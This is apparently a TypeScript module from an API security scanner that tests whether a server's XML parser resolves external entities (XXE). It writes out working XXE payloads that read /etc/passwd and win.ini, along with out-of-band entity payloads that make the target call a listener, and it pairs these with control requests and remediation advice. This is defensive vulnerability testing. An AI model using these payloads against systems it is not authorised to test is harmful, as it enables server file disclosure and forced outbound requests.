// src/checks/security/xxe.ts — active: an XML body's external entities are resolved; proof is a local file's
// contents in the response (absent from an internal-entity control) or a callback at the out-of-band listener.
import { z } from 'zod';
import type { Exchange, Operation, SendRequest } from '../../core/index.js';
import { buildRequest, rawBodyType } from '../../inject/index.js';
import { defineCheck, type CandidateInput, type CheckContext } from '../kit/define.js';
import { all, safeMethodOrNotSafeMode, type Guard } from '../kit/guards.js';
import { nonce, textBody } from './support/exchanges.js';
import { Tally } from './support/tally.js';

/**
 * The media type to send XML with: an XML type the operation declares, or its declared raw type (text/plain, …)
 * when the example body is an XML document (the body is parsed as XML whatever the label says).
 */
export function xmlType(op: Operation): string | undefined {
  if (!op.requestBody) return undefined;
  if (/[/+]xml\b/i.test(op.requestBody.contentType)) return op.requestBody.contentType;
  const ex = op.requestBody.example;
  return rawBodyType(op) && typeof ex === 'string' && /^\s*</.test(ex) ? op.requestBody.contentType : undefined;
}
const acceptsXml: Guard = (op) => (xmlType(op) ? undefined : 'the request body is not XML (neither its declared type nor its example)');

/** Files whose contents are recognizable, with the marker that proves they were read. */
const FILES: ReadonlyArray<{ url: string; marker: RegExp }> = [
  { url: 'file:///etc/passwd', marker: /root:[^:\r\n]*:0:0:/ },
  { url: 'file:///c:/windows/win.ini', marker: /\[(?:fonts|extensions)\]/i },
];

type Kind = 'file' | 'oob' | 'oob-parameter';
/** Payloads per strength, in order. */
const PLAN: Record<'low' | 'default' | 'high', Array<{ kind: Kind; file?: number }>> = {
  low: [{ kind: 'oob' }],
  default: [{ kind: 'file', file: 0 }, { kind: 'oob' }, { kind: 'oob-parameter' }],
  high: [{ kind: 'file', file: 0 }, { kind: 'file', file: 1 }, { kind: 'oob' }, { kind: 'oob-parameter' }],
};

/** The operation's XML example with `&vouch;` as its first text, or a minimal document. No XML declaration. */
export function carrier(op: Operation): string {
  const ex = op.requestBody?.example;
  const xml = typeof ex === 'string' && ex.trim().startsWith('<') ? ex.trim().replace(/^<\?xml[^>]*\?>\s*/, '').replace(/<!DOCTYPE[^>]*>\s*/i, '') : '<vouch>x</vouch>';
  if (/>[^<\s][^<]*</.test(xml)) return xml.replace(/>[^<\s][^<]*</, '>&vouch;<');
  return xml.replace(/<\/([\w:.-]+)>\s*$/, '&vouch;</$1>');
}

/** A document declaring `entity` before the carrier. */
export const xxeDocument = (op: Operation, entity: string): string => `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE vouch [${entity}]>\n${carrier(op)}`;

const request = (op: Operation, body: string): SendRequest => {
  const base = buildRequest(op);
  return { ...base, headers: [...(base.headers ?? []).filter(([k]) => k.toLowerCase() !== 'content-type'), ['content-type', xmlType(op) ?? 'application/xml']], body };
};

const NO_LISTENER = 'no out-of-band listener runs (oob.enabled is false or it could not start), so blind external entities could not be tried';

interface Attempt { kind: Kind; file?: number; x: Exchange; callback?: Exchange | undefined; evidence?: string | undefined; control?: Exchange; payload: string }

async function attempt(ctx: CheckContext<{ waitMs: number }>, op: Operation, step: { kind: Kind; file?: number }): Promise<Attempt | undefined> {
  if (step.kind === 'file') {
    const file = FILES[step.file ?? 0]!;
    const payload = xxeDocument(op, `<!ENTITY vouch SYSTEM "${file.url}">`);
    const x = await ctx.send(request(op, payload));
    const m = file.marker.exec(textBody(x.response));
    if (!m) return { kind: 'file', file: step.file ?? 0, x, payload };
    // Control: the same document with an internal entity; the file's marker must not be there.
    const control = await ctx.send(request(op, xxeDocument(op, `<!ENTITY vouch "vouch${nonce()}">`)));
    const evidence = file.marker.test(textBody(control.response)) ? undefined : m[0];
    return { kind: 'file', file: step.file ?? 0, x, control, evidence, payload };
  }
  if (!ctx.oob) return undefined;
  const { url, token } = ctx.oob.mint();
  const payload = step.kind === 'oob' ? xxeDocument(op, `<!ENTITY vouch SYSTEM "${url}">`) : xxeDocument(op, `<!ENTITY % vouchp SYSTEM "${url}.dtd"> %vouchp;<!ENTITY vouch "x">`);
  const x = await ctx.send(request(op, payload));
  const callback = await ctx.oob.waitFor(token, ctx.options.waitMs);
  return { kind: step.kind, x, callback, payload, ...(callback ? { evidence: `${callback.request.method} ${callback.request.url}` } : {}) };
}

export default defineCheck({
  id: 'xxe',
  family: 'security',
  kind: 'active',
  scope: 'operation',
  needsOob: true,
  // XXE targets the whole XML body, one "point" per operation.
  requestsPerPoint: { low: 1, default: 4, high: 6 },
  meta: {
    title: 'XML external entity (XXE) resolution',
    description: 'The XML parser resolves external entities in request bodies, so an attacker can read server files or make the server send requests.',
    severity: 'high',
    cwe: 'CWE-611',
    owasp: 'A05:2021 Security Misconfiguration',
    remediation: 'Turn off DTD processing (or at least external entities and external DTDs) in the XML parser; most parsers have one switch (e.g. libxml2 without NOENT/DTDLOAD, Java disallow-doctype-decl).',
    proves: 'A local file\'s contents (root:x:0:0: from /etc/passwd) in the response that an internal-entity control lacks, or a callback carrying the payload\'s random token at vouch\'s out-of-band listener; replayed at confirmation.',
  },
  options: z.strictObject({
    /** How long to wait for an out-of-band callback per payload, ms. Default 1000. */
    waitMs: z.number().int().min(100).max(60_000).default(1000),
  }),
  appliesTo: all(acceptsXml, safeMethodOrNotSafeMode),
  async run(ctx) {
    const op = ctx.operation!;
    // Only real answers count: a 5xx or 429 says nothing about the parser.
    const tally = new Tally();
    let skippedBlind = false;
    for (const step of PLAN[ctx.strength]) {
      const a = await attempt(ctx, op, step);
      if (!a) {
        skippedBlind = true;
        continue;
      }
      tally.note(a.x);
      if (!a.evidence) continue;
      const how = a.kind === 'file' ? `the response carries ${JSON.stringify(a.evidence)} from ${FILES[a.file!]!.url}; an internal-entity control → ${a.control?.response?.status ?? '-'} without it` : `vouch's listener then received ${a.evidence} (${a.kind === 'oob' ? 'external general entity' : 'external parameter entity / DTD'})`;
      const candidate: CandidateInput = {
        operation: { method: op.method, path: op.path },
        url: a.x.request.url,
        parameter: 'body',
        vulnClass: a.kind === 'file' ? 'xxe-file' : 'xxe-oob',
        confidence: 'tentative',
        proof: { summary: `${op.method} ${op.path} with an XML body declaring an external entity → ${a.x.response?.status ?? '-'}; ${how}`, exchangeIds: [a.x.id, ...(a.callback ? [a.callback.id] : []), ...(a.control ? [a.control.id] : [])], evidence: a.evidence, payload: a.payload },
        data: { step: { kind: a.kind, ...(a.file !== undefined ? { file: a.file } : {}) } },
      };
      return { status: 'found', candidates: [candidate] };
    }
    const judged = tally.result();
    if (judged.status === 'inconclusive') return skippedBlind ? { status: 'inconclusive', reason: `${judged.reason}; ${NO_LISTENER}` } : judged;
    return skippedBlind ? { status: 'inconclusive', reason: `the file payloads showed nothing and ${NO_LISTENER}` } : judged;
  },
  async confirm(candidate, ctx) {
    const op = ctx.operation;
    const data = candidate.data as { step: { kind: Kind; file?: number } } | undefined;
    if (!op || !data) return { confirmed: false, exchangeIds: [], reason: 'the operation is no longer in the surface' };
    const a = await attempt(ctx, op, data.step);
    if (!a) return { confirmed: false, exchangeIds: [], reason: NO_LISTENER };
    const ids = [a.x.id, ...(a.callback ? [a.callback.id] : []), ...(a.control ? [a.control.id] : [])];
    if (a.evidence) return { confirmed: true, exchangeIds: ids, summary: `${candidate.proof.summary}; reproduced on replay${a.kind === 'file' ? '' : ' with a fresh token'}` };
    return { confirmed: false, exchangeIds: ids, reason: 'the replay did not reproduce it' };
  },
  example: { url: 'http://127.0.0.1:8080/api/import', summary: 'POST /api/import with an XML body declaring an external entity → 200; the response carries "root:x:0:0:" from file:///etc/passwd; an internal-entity control → 200 without it' },
});
